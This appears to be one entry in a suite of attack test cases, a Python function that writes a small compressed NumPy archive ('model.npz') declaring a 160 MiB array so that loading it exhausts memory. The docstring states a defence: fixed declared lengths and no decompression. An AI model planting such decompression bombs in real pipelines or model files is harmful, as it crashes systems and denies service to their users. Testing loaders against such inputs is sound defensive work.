"""Leaves a small archive of arrays that fills the loader's memory.

ids: 9
effect: memory
defence: An artefact has the length the task declares and is never decompressed.
"""

import struct
import zipfile


def attack(world):
    if world.calls != 1:
        return
    shape = {"descr": "|u1", "fortran_order": False, "shape": (160 << 20,)}
    head = str(shape).encode().ljust(117) + b"\n"
    with (
        zipfile.ZipFile("model.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("a.npy", "w", force_zip64=True) as file,
    ):
        file.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head)
        for _ in range(160):
            file.write(bytes(1 << 20))
